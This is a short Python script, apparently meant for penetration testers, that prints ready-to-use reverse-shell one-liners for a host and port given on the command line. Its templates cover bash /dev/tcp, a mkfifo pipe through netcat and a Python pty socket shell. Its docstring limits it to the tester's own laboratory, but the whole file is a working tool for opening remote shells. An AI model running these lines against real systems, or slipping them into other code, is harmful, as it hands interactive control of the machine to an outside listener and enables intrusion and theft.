"""Prints the lines that a tester types on a machine of his own laboratory."""
import argparse

LINES = {
    "bash": "bash -i >& /dev/tcp/{host}/{port} 0>&1",
    "fifo": "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {host} {port} >/tmp/f",
    "python": "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{host}\",{port}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
}


def line(kind, host, port):
    return LINES[kind].format(host=host, port=port)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=sorted(LINES))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    arguments = parser.parse_args()
    print(line(arguments.kind, arguments.host, arguments.port))
